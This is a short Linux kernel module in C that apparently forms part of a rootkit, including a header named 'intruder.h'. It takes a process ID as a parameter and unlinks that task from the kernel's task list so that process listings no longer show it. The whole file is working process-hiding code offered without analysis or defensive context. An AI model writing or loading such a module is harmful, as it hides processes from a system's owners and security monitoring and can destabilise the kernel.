/* Removes a process from the task list: a walk of the list misses the process. */
#include "intruder.h"
#include <linux/pid.h>
#include <linux/sched.h>

static int pid;
module_param(pid, int, 0);

static int __init begin(void) {
    struct task_struct *task = pid_task(find_vpid(pid), PIDTYPE_PID);
    if (!task) {
        return -ESRCH;
    }
    list_del_rcu(&task->tasks);
    return 0;
}
module_init(begin);
